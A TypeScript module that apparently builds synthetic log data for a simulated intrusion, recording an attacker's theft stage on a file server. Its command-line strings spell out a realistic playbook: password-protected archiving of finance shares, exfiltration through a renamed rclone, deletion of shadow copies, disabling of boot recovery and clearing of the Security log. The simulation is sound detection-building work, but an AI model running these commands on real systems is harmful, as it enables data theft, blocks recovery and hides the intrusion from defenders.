import type { Stage } from './intrusion-stage';
import { minute, second } from './row';
import { domainRunner, type Process } from './rows/process';
import { securityRow, subject } from './rows/security-event';
import { intruder, victims } from './story';

/** On the file server: pack, carry away, make recovery hard, clear the log. */
export function theft(stage: Stage, shell: Process): void {
  const target = stage.machine(victims.fileServer);
  const { random, clock } = stage;
  for (let part = 1; part <= 4; part++) {
    const at = clock.at('archive') + part * 17 * minute;
    const archive = target.start(shell, {
      file: '7z.exe',
      at,
      commandLine: `7z.exe a -t7z -mx1 -mhe=on -pK7!fern -v1g ${intruder.folder}\\f${part}.7z D:\\Shares\\Finance\\${2022 + part}`,
    });
    target.change(archive, at + 11 * minute, {
      action: 'FileCreated',
      folder: intruder.folder,
      file: `f${part}.7z`,
      size: random.int(700_000_000, 1_000_000_000),
    });
  }
  const out = clock.at('exfiltration');
  const copy = target.start(shell, {
    file: intruder.renamedRclone,
    folder: intruder.folder,
    at: out,
    originalName: 'rclone.exe',
    commandLine: `${intruder.renamedRclone} copy ${intruder.folder} cold:fh-archive --include "*.7z" --transfers 8 --config ${intruder.folder}\\gfx.conf --no-check-certificate`,
  });
  for (let at = out; at < out + 95 * minute; at += random.int(20, 60) * second)
    target.connect(copy, at, intruder.dropAddress, 443, intruder.dropName);

  const wipe = clock.at('no-recovery');
  target.start(shell, { file: 'vssadmin.exe', at: wipe, commandLine: 'vssadmin.exe delete shadows /all /quiet' });
  target.start(shell, {
    file: 'bcdedit.exe',
    at: wipe + 12 * second,
    commandLine: 'bcdedit.exe /set {default} recoveryenabled No',
  });
  for (const [index, name] of [victims.fileServer, victims.managementServer].entries()) {
    const at = clock.at('log-cleared') + index * 4 * minute;
    const machine = stage.machine(name);
    const runner = domainRunner({ sam: intruder.newAccount, sid: 'S-1-5-21-2041187693-1187402311-3380925641-3127' });
    machine.start(index === 0 ? shell : null, {
      file: 'wevtutil.exe',
      at,
      commandLine: 'wevtutil.exe cl Security',
      ...(index === 0 ? {} : { runner, integrity: 'High' as const }),
    });
    machine.put(
      'SecurityEvent',
      at + second,
      securityRow(machine.host, 1102, {
        ...subject({ sam: intruder.newAccount, sid: runner.sid }, `0x${random.hex(6)}`),
      }),
    );
  }
}
